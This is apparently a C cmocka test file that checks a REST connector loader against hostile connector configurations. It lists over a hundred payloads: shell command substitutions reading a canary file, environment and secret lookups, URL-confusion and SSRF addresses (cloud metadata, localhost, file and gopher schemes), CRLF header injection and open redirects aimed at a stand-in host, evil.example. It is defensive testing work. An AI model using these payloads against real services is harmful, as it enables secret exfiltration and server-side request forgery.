/*
 * Goal: a connector file that means harm, and is well formed, gets nothing from this machine and nowhere
 * but where it openly says: no variable of the environment, no secret, no file, no host that is not declared.
 * Method: one good connector that makes every kind of request there is, and a table of single changes to
 * it, or to the answers. What is loaded goes through all its tasks; each request is read by the check that it would
 * pass on its way out, and by libcurl, and its bytes are searched for what lies around to be stolen.
 * covers: S17
 */
// links: dest os conf flow base assets
#include "base/buf.h"
#include "dest/connector.h"
#include "lib/restdest.h"
#include "os/http_check.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <curl/curl.h>
#include <cmocka.h>

#define CANARY      "canary-7f3a" /* value of a variable, a secret, and the text of a file */
#define STEPS_MAX   40
#define PATH_CANARY "hostile_canary.txt"

static const char good[] =
    "connector: demo\n"
    "title: Demo\n"
    "options:\n"
    "  token: {type: secret, required: true, help: A token.}\n"
    "  url: {type: url, default: \"https://api.example.com\", help: Where.}\n"
    "  name: {type: text, default: plain, help: A text.}\n"
    "  file: {type: path, default: kept.txt, help: A path.}\n"
    "hosts: [\"*.example.com\"]\n"
    "base: \"{url}/v1\"\n"
    "account: \"{name}\"\n"
    "auth:\n"
    "  login: {base: \"{url}\", post: /token, form: {secret: \"{token}\"}, token: /t, url: /u}\n"
    "  header: {Authorization: \"Bearer {session.token}\"}\n"
    "headers: {X-Name: \"{name}\"}\n"
    "values: {null: \"\"}\n"
    "objects: {fields: {get: \"/f/{object}\", each: /r, name: /n, next: {at: /next}}}\n"
    "read: {get: \"/r/{match.value}\", fields: \"\"}\n"
    "operations:\n"
    "  upsert:\n"
    "    class: converge\n"
    "    post: \"/x/{object}\"\n"
    "    query: {q: \"{name}\"}\n"
    "    json: {name: \"{name}\", set: \"{fields}\"}\n"
    "    answer: {all: applied}\n"
    "  create:\n"
    "    class: converge\n"
    "    batch: {rows: 10}\n"
    "    job:\n"
    "      create: {post: /j, json: {n: 1}, id: /id}\n"
    "      upload: {put: \"/j/{job.id}/b\", csv: {columns: record, null: \"#N/A\"}}\n"
    "      poll: {get: \"/j/{job.id}\", at: /s, done: d}\n"
    "      results: [{get: \"/j/{job.id}/r\", refused: {each: /r, by: index, row: /i}, next: {at: /next}}]\n"
    "      others: applied\n"
    "  update:\n"
    "    find: {get: \"/find/{match.value}\", remote_id: /id, missing: refused}\n"
    "    class: converge\n"
    "    patch: \"/u/{remote_id}\"\n"
    "    form: {name: \"{name}\", a: \"{fields.a}\"}\n"
    "    answer: {all: applied}\n"
    "  append: {class: converge, post: /a, text: \"{name} {fields.a}\", answer: {all: applied}}\n";

/* `answer` is what every request is answered; NULL: answered. */
static const char answered[] =
    "{\"t\":\"tok\",\"u\":\"https://eu.example.com\",\"id\":\"77\",\"s\":\"d\",\"r\":[],\"next\":null}";
#define ANSWER(u, id, next)                                                                        \
    "{\"t\":\"tok\",\"u\":\"" u "\",\"id\":\"" id "\",\"s\":\"d\",\"r\":[],\"next\":\"" next "\"}"

/* An address that is no literal of the file, which would be refused when it is loaded. */
#define BASE_FROM                                                                                  \
    "default: plain, help: A text.}\n"                                                             \
    "  file: {type: path, default: kept.txt, help: A path.}\n"                                     \
    "hosts: [\"*.example.com\"]\n"                                                                 \
    "base: \"{url}/v1\""
#define AS_BASE(address)                                                                           \
    BASE_FROM, "default: \"" address "\", help: A text.}\n"                                        \
               "  file: {type: path, default: kept.txt, help: A path.}\n"                          \
               "hosts: [\"*.example.com\"]\n"                                                      \
               "base: \"{name}\""

static const struct attack {
    const char *from, *to, *answer;
} attacks[] = {
    /* the environment, secrets, files */
    {"title: Demo", "title: \"${CANARY}\"", NULL},
    {"https://api.example.com\"", "https://api.example.com/${CANARY}\"", NULL},
    {"default: plain", "default: \"${CANARY}\"", NULL},
    {"default: plain", "default: \"${secret:CANARY}\"", NULL},
    {"default: plain", "default: \"$CANARY\"", NULL},
    {"default: plain", "default: \"${file:hostile_canary.txt}\"", NULL},
    {"default: plain", "default: \"@hostile_canary.txt\"", NULL},
    {"default: plain", "default: \"$(cat hostile_canary.txt)\"", NULL},
    {"default: plain", "default: \"`cat hostile_canary.txt`\"", NULL},
    {"default: plain", "default: \"{{ env_var('CANARY') }}\"", NULL},
    {"type: text, default: plain", "type: path, default: hostile_canary.txt", NULL},
    {"type: text, default: plain", "type: secret, default: CANARY", NULL},
    {"default: kept.txt", "default: hostile_canary.txt", NULL},
    {"X-Name: \"{name}\"", "X-Name: \"{file}\"", NULL},
    {"X-Name: \"{name}\"", "X-Name: \"{file/}\"", NULL},
    {"X-Name: \"{name}\"", "X-Name: \"${CANARY}\"", NULL},
    {"X-Name: \"{name}\"", "X-Name: \"{env.CANARY}\"", NULL},
    {"X-Name: \"{name}\"", "X-Name: \"{name|file}\"", NULL},
    {"X-Name: \"{name}\"", "X-Name: !include hostile_canary.txt", NULL},
    {"X-Name: \"{name}\"", "X-Name: !ENV CANARY", NULL},
    {"name: \"{name}\", set", "name: \"${secret:CANARY}\", set", NULL},
    {"name: \"{name}\", set", "name: \"@hostile_canary.txt\", set", NULL},
    {"name: \"{name}\", set", "name: {file: hostile_canary.txt}, set", NULL},
    {"json: {name: \"{name}\", set: \"{fields}\"}", "file: hostile_canary.txt", NULL},
    {"form: {name: \"{name}\"", "form: {name: \"@hostile_canary.txt\"", NULL},
    {"text: \"{name} {fields.a}\"", "text: \"<hostile_canary.txt ${CANARY}\"", NULL},
    {"null: \"#N/A\"", "null: \"${CANARY}\"", NULL},
    {"values: {null: \"\"}", "values: {null: \"${CANARY}\"}", NULL},
    {"query: {q: \"{name}\"}", "query: {q: \"${CANARY}\"}", NULL},
    {"account: \"{name}\"", "account: \"${CANARY}\"", NULL},
    {"form: {secret: \"{token}\"}", "form: {secret: \"${CANARY}\"}", NULL},
    {"token: /t, url: /u", "token: /t, url: /u, jwt: {key: hostile_canary.txt, claims: {a: b}}",
     NULL},
    {"token: /t, url: /u", "token: /t, url: /u, jwt: {key: \"{file}\", claims: {a: b}}", NULL},
    {"  header: {Auth",
     "  oauth1: {consumer_key: k, consumer_secret: \"${CANARY}\", token: t, token_secret: "
     "hostile_canary.txt}\n  header: {Auth",
     NULL},
    /* other hosts, by what the file says */
    {AS_BASE("https://evil.example"), NULL},
    {AS_BASE("http://evil.example"), NULL},
    {AS_BASE("http://eu.example.com"), NULL},
    {"base: \"{url}/v1\"", "base: \"HTTPS://evil.example\"", NULL},
    {"base: \"{url}/v1\"", "base: \"//evil.example\"", NULL},
    {"base: \"{url}/v1\"", "base: \"evil.example\"", NULL},
    {AS_BASE("https:evil.example"), NULL},
    {AS_BASE("https:/evil.example"), NULL},
    {AS_BASE("https:///evil.example"), NULL},
    {AS_BASE(" https://evil.example"), NULL},
    {"base: \"{url}/v1\"", "base: \"ftp://api.example.com\"", NULL},
    {"base: \"{url}/v1\"", "base: \"file:///etc/hostname\"", NULL},
    {"base: \"{url}/v1\"", "base: \"gopher://api.example.com:70/_\"", NULL},
    {AS_BASE("https://api.example.com@evil.example"), NULL},
    {AS_BASE("https://api.example.com:x@evil.example"), NULL},
    {AS_BASE("https://api.example.com%40evil.example"), NULL},
    {AS_BASE("https://evil.example#.example.com"), NULL},
    {AS_BASE("https://evil.example?.example.com"), NULL},
    {AS_BASE("https://evil.example\\\\.example.com"), NULL},
    {AS_BASE("https://evil.example\\t.example.com"), NULL},
    {AS_BASE("https://evil.example\\0.example.com"), NULL},
    {AS_BASE("https://evil.example%00.example.com"), NULL},
    {AS_BASE("https://evil.example\\r\\nHost: api.example.com"), NULL},
    {AS_BASE("https://evil.example;.example.com"), NULL},
    {AS_BASE("https://[evil.example].example.com"), NULL},
    {AS_BASE("https://evil.example:443.example.com"), NULL},
    {AS_BASE("https://evil\xe3\x80\x82"
             "example.com"),
     NULL},
    {AS_BASE("https://evilexample.com"), NULL},
    {AS_BASE("https://example.com"), NULL},
    {AS_BASE("https://api.example.com.evil.example"), NULL},
    {AS_BASE("https://127.0.0.1"), NULL},
    {AS_BASE("https://[::1]"), NULL},
    {AS_BASE("https://2130706433"), NULL},
    {AS_BASE("http://169.254.169.254/latest"), NULL},
    {AS_BASE("https://localhost"), NULL},
    {"base: \"{url}/v1\"", "base: \"https://{name}.evil.example\"", NULL},
    {"base: \"{url}/v1\"", "base: \"https://{token}.evil.example\"", NULL},
    {"base: \"{url}/v1\"", "base: \"https://{object}.example.com\"", NULL},
    {"base: \"{url}/v1\"", "base: \"{session.token}/v1\"", NULL},
    {"post: /token", "base: \"https://evil.example\", post: /token", NULL},
    {"{base: \"{url}\", post: /token", "{base: \"https://evil.example\", post: /token", NULL},
    {"{get: \"/f/{object}\"", "{base: \"https://evil.example\", get: \"/f/{object}\"", NULL},
    {"{get: \"/r/{match.value}\"", "{base: \"https://evil.example\", get: \"/r/{match.value}\"",
     NULL},
    {"{post: /j, json", "{base: \"https://evil.example\", post: /j, json", NULL},
    {"{put: \"/j/{job.id}/b\"", "{base: \"https://evil.example\", put: \"/j/{job.id}/b\"", NULL},
    {"{get: \"/j/{job.id}\", at", "{base: \"https://evil.example\", get: \"/j/{job.id}\", at",
     NULL},
    {"{get: \"/find/{match.value}\"",
     "{base: \"https://evil.example\", get: \"/find/{match.value}\"", NULL},
    {"post: \"/x/{object}\"", "post: \"/x/{object}\"\n    base: \"https://evil.example\"", NULL},
    {"post: \"/x/{object}\"", "post: \"@evil.example/x\"", NULL},
    {"post: \"/x/{object}\"", "post: \"/../../x\"", NULL},
    {"post: \"/x/{object}\"", "post: \"/x\\r\\nHost: evil.example\"", NULL},
    /* headers that would lead or say something else */
    {"headers: {X-Name", "headers: {Host: evil.example, X-Name", NULL},
    {"headers: {X-Name", "headers: {Content-Length: \"0\", X-Name", NULL},
    {"headers: {X-Name", "headers: {Transfer-Encoding: chunked, X-Name", NULL},
    {"headers: {X-Name", "headers: {Connection: upgrade, X-Name", NULL},
    {"headers: {X-Name", "headers: {\"A\\nHost\": evil.example, X-Name", NULL},
    {"X-Name: \"{name}\"", "X-Name: \"a\\r\\nHost: evil.example\"", NULL},
    {"json: {n: 1}", "content_type: \"a\\r\\nHost: evil.example\", json: {n: 1}", NULL},
    /* other hosts, by what somebody answers */
    {"", "", ANSWER("https://evil.example", "77", "")},
    {"", "", ANSWER("http://evil.example", "77", "")},
    {"", "", ANSWER("https://eu.example.com@evil.example", "77", "")},
    {"", "", ANSWER("https://127.0.0.1", "77", "")},
    {"base: \"{url}/v1\"", "base: \"{session.url}\"", ANSWER("https://evil.example", "77", "")},
    {"base: \"{url}/v1\"", "base: \"{session.url}\"",
     ANSWER("https://eu.example.com.evil.example", "77", "")},
    {"base: \"{url}/v1\"", "base: \"{session.url}\"", ANSWER("http://169.254.169.254", "77", "")},
    {"base: \"{url}/v1\"", "base: \"{session.url}\"", ANSWER("file:///etc", "77", "")},
    {"", "", ANSWER("https://eu.example.com", "../../x", "")},
    {"", "", ANSWER("https://eu.example.com", "/@evil.example", "")},
    {"", "", ANSWER("https://eu.example.com", "77", "https://evil.example/2")},
    {"", "", ANSWER("https://eu.example.com", "77", "//evil.example/2")},
    {"", "", ANSWER("https://eu.example.com", "77", "/\\\\evil.example/2")},
    {"", "", ANSWER("https://eu.example.com", "77", "@evil.example/2")},
    {"", "", ANSWER("https://eu.example.com", "77", "https://eu.example.com@evil.example/2")},
    {"", "", ANSWER("https://eu.example.com", "77", "http://api.example.com/2")},
    {"", "", ANSWER("https://eu.example.com", "77", "file:///etc/hostname")},
    {"", "", ANSWER("https://eu.example.com", "77", "javascript:alert(1)")},
};

/* ---- what is around to be stolen ---- */

static unsigned lookups;

static bool
env_canary(void *self, eff_str name, eff_str *ret_value)
{
    (void)self, (void)name;
    lookups++;
    *ret_value = EFF_STR(CANARY);
    return true;
}

static enum eff_fault
secret_canary(void *self, eff_str name, eff_str *ret_value, struct eff_err *err)
{
    (void)err;
    return env_canary(self, name, ret_value) ? EFF_OK : EFF_BROKEN;
}

static const struct eff_lookup canaries = {NULL, env_canary, secret_canary, NULL};
static struct eff_arena arena;

static int
setup(void **state)
{
    FILE *file = fopen(PATH_CANARY, "w");

    (void)state;
    eff_arena_init(&arena, "test", (size_t)256 << 20);
    if (!file || fputs(CANARY "\n", file) < 0 || fclose(file) != 0)
        return 1;
    return setenv("CANARY", CANARY, 1);
}

static int
teardown(void **state)
{
    (void)state;
    eff_arena_deinit(&arena);
    return unlink(PATH_CANARY);
}

/* ---- watching requests ---- */

struct watch {
    const char *answer;
    unsigned leaving, refused, leaks; /* requests that may leave; that the check stops */
    char why[200];
};

static void
watch_leak(struct watch *watch, const char *what, eff_str where)
{
    watch->leaks++;
    snprintf(watch->why, sizeof watch->why, "%s: " EFF_STR_FMT, what,
             EFF_STR_ARG(eff_str_sub(where, 0, 120)));
}

/* As libcurl reads it: https, and a host of the declared ones. */
static bool
watch_declared(const char *text)
{
    CURLU *url = curl_url();
    char *host = NULL, *scheme = NULL;
    bool fine = curl_url_set(url, CURLUPART_URL, text, 0) == CURLUE_OK &&
                curl_url_get(url, CURLUPART_HOST, &host, 0) == CURLUE_OK &&
                curl_url_get(url, CURLUPART_SCHEME, &scheme, 0) == CURLUE_OK &&
                strcmp(scheme, "https") == 0 && strlen(host) > strlen(".example.com") &&
                strcmp(host + strlen(host) - strlen(".example.com"), ".example.com") == 0;

    curl_free(host);
    curl_free(scheme);
    curl_url_cleanup(url);
    return fine;
}

static void
watch_request(struct watch *watch, const struct eff_request *request)
{
    struct eff_err err = {0};
    bool listed;

    if (eff_http_check(request, &listed, &err) != EFF_OK) {
        watch->refused++;
        return;
    }
    watch->leaving++;
    if (!watch_declared(eff_str_c(&arena, request->url)))
        watch_leak(watch, "a host that is not declared", request->url);
    if (request->metadata || listed)
        watch_leak(watch, "an address of this machine's own network", request->url);
    if (eff_str_find(request->url, EFF_STR(CANARY)) != SIZE_MAX)
        watch_leak(watch, "in the address", request->url);
    if (eff_str_find(request->body, EFF_STR(CANARY)) != SIZE_MAX)
        watch_leak(watch, "in the body", request->body);
    for (size_t i = 0; i < request->headers_count; i++)
        if (eff_str_find(request->headers[i].value, EFF_STR(CANARY)) != SIZE_MAX)
            watch_leak(watch, "in a header", request->headers[i].value);
    if (request->oauth1 &&
        (eff_str_find(request->oauth1->consumer_secret, EFF_STR(CANARY)) != SIZE_MAX ||
         eff_str_find(request->oauth1->token_secret, EFF_STR(CANARY)) != SIZE_MAX))
        watch_leak(watch, "in a signature", EFF_STR(""));
}

static void
watch_task(struct watch *watch, struct restdest *w, struct eff_task task)
{
    struct eff_response response = restdest_answer(200, watch->answer);
    const struct eff_response *last = NULL;

    task.arena = w->arena;
    for (int steps = 0; steps < STEPS_MAX; steps++) {
        struct eff_step step;

        w->err = (struct eff_err){0};
        step = w->dest->ops->step(w->dest, &task, last, &w->err);
        last = NULL;
        if (step.kind == EFF_STEP_SEND) {
            watch_request(watch, &step.request);
            last = &response;
        } else if (step.kind == EFF_STEP_AUTH) {
            watch_task(watch, w, (struct eff_task){.kind = EFF_TASK_AUTHORIZE});
        } else if (step.kind != EFF_STEP_WAIT) {
            return;
        }
    }
}

static void
watch_delivery(struct watch *watch, struct restdest *w, enum eff_op op)
{
    static const eff_str name = {"a", 1};
    static const struct eff_value value = {.kind = EFF_NULL};
    struct eff_delivery *d = restdest_rows(w, op, "things", "id", 1, 1, &name, &value);

    watch_task(watch, w,
               (struct eff_task){.kind = EFF_TASK_DELIVER, .delivery = d, .object = d->object});
}

static void
watch_looks(struct watch *watch, struct restdest *w)
{
    static const eff_str id = {"id", 2}, field = {"a", 1};
    static const struct eff_value match = {.kind = EFF_INT, .i = 7};
    struct eff_schema schema = {0};
    struct eff_record record = {0};
    struct eff_read read = {.match_count = 1,
                            .match_names = &id,
                            .fields_count = 1,
                            .field_names = &field,
                            .count = 1,
                            .match = &match,
                            .records = &record};

    watch_task(watch, w, (struct eff_task){.kind = EFF_TASK_AUTHORIZE});
    watch_task(watch, w,
               (struct eff_task){
                   .kind = EFF_TASK_DESCRIBE, .schema = &schema, .object = EFF_STR("things")});
    watch_task(
        watch, w,
        (struct eff_task){.kind = EFF_TASK_READ, .read = &read, .object = EFF_STR("things")});
}

/* False when it is not even loaded. */
static bool
watch_connector(struct watch *watch, eff_str text)
{
    static const struct {
        enum eff_mode mode;
        enum eff_op op;
    } ways[] = {{EFF_MODE_UPSERT, EFF_OP_UPSERT},
                {EFF_MODE_INSERT, EFF_OP_CREATE},
                {EFF_MODE_UPDATE, EFF_OP_UPDATE},
                {EFF_MODE_APPEND, EFF_OP_APPEND}};
    struct eff_connector_file file = {EFF_STR("connectors/demo/connector.yaml"), text};
    struct restdest w;

    if (!restdest_kinds(&w, &arena, 1, &file))
        return false;
    w.fill.lookup = &canaries;
    w.fill.root = EFF_STR("/");
    for (size_t i = 0; i < sizeof ways / sizeof ways[0]; i++) {
        if (!restdest_open(&w, "demo", "{token: given}\n"))
            return false;
        if (!restdest_bind(&w, ways[i].mode, EFF_REMOVED_KEEP, "things", 1))
            continue;
        if (i == 0)
            watch_looks(watch, &w);
        watch_delivery(watch, &w, ways[i].op);
        w.dest->ops->close(w.dest);
    }
    return true;
}

static eff_str
changed(const struct attack *attack)
{
    const char *at = strstr(good, attack->from);

    if (!at)
        fail_msg("the good file has no \"%s\"", attack->from);
    return eff_str_printf(&arena, "%.*s%s%s", (int)(at - good), good, attack->to,
                          at + strlen(attack->from));
}

/* ---- the tests ---- */

/* Else what follows would be quiet because nothing is asked, or because nobody looks. */
static void
the_good_one_asks_all_and_a_leak_is_seen(void **state)
{
    struct watch watch = {.answer = answered};
    struct eff_arena before = arena;

    (void)state;
    assert_true(watch_connector(&watch, eff_str_of(good)));
    assert_int_equal(watch.leaks, 0);
    assert_int_equal(watch.refused, 0);
    assert_int_equal(watch.leaving, 14); /* four of them logins */
    arena = before;
    watch = (struct watch){.answer = answered};
    assert_true(watch_connector(
        &watch,
        changed(&(struct attack){
            "hosts: [\"*.example.com\"]\nbase: \"{url}/v1\"",
            "hosts: [evil.example, \"*.example.com\"]\nbase: \"https://evil.example\"", NULL})));
    assert_true(watch.leaks > 5);
    arena = before;
    watch = (struct watch){.answer = answered};
    assert_true(watch_connector(
        &watch, changed(&(struct attack){"default: plain", "default: " CANARY, NULL})));
    assert_true(watch.leaks > 5);
    assert_int_equal(lookups, 0);
    arena = before;
}

static void
hostile_connectors_get_nothing(void **state)
{
    unsigned loaded = 0, leaks = 0, leaving = 0;
    struct eff_arena before = arena;

    (void)state;
    assert_true(sizeof attacks / sizeof attacks[0] >= 60);
    for (size_t i = 0; i < sizeof attacks / sizeof attacks[0]; i++) {
        struct watch watch = {.answer = attacks[i].answer ? attacks[i].answer : answered};

        loaded += watch_connector(&watch, changed(&attacks[i]));
        leaving += watch.leaving;
        leaks += watch.leaks + lookups;
        if (watch.leaks > 0 || lookups > 0)
            print_error("%s (%s): %s, %u lookups\n", attacks[i].to, watch.answer, watch.why,
                        lookups);
        lookups = 0;
        arena = before;
    }
    print_message("%zu attacks, %u of them loaded, %u requests would leave\n",
                  sizeof attacks / sizeof attacks[0], loaded, leaving);
    assert_int_equal(leaks, 0);
    assert_true(loaded >= 60); /* what is not loaded is the other table's: dest_connector_test */
}

/* A server whose pages never end keeps nobody for ever, and no row is taken for missing by that. */
static void
endless_pages_end(void **state)
{
    eff_str names[] = {EFF_STR("LastName")};
    struct eff_value fields[] = {eff_value_of_int(EFF_INT, 1)};
    struct eff_arena before = arena;
    struct restdest world;
    struct eff_delivery *d;
    struct eff_step step;
    unsigned pages = 0;

    (void)state;
    assert_true(restdest_kinds(&world, &arena, 0, NULL));
    assert_true(restdest_open(&world, "salesforce",
                              "{instance_url: 'https://a.my.salesforce.com', token: t}"));
    assert_true(restdest_bind(&world, EFF_MODE_MIRROR, EFF_REMOVED_DELETE, "Lead", 1));
    d = restdest_rows(&world, EFF_OP_DELETE, "Lead", "Ext_Id__c", 1, 1, names, fields);
    step = restdest_step(&world, d, NULL);
    for (; step.kind == EFF_STEP_SEND && pages < 20000; pages++) {
        char page[160];
        struct eff_response answer;

        snprintf(page, sizeof page,
                 "{\"records\": [], \"nextRecordsUrl\": \"/services/data/v60.0/query/01g-%u\"}",
                 pages);
        answer = restdest_answer(200, page);
        step = restdest_step(&world, d, &answer);
    }
    assert_in_range(pages, 1000, 19999);
    assert_int_equal(step.kind, EFF_STEP_DONE);
    assert_int_equal(d->items[0].verdict.outcome, EFF_NOT_APPLIED);
    assert_int_equal(d->items[0].verdict.fault, EFF_TRANSIENT);
    world.dest->ops->close(world.dest);
    arena = before;
}

int
main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(the_good_one_asks_all_and_a_leak_is_seen),
        cmocka_unit_test(hostile_connectors_get_nothing),
        cmocka_unit_test(endless_pages_end),
    };

    return cmocka_run_group_tests(tests, setup, teardown);
}
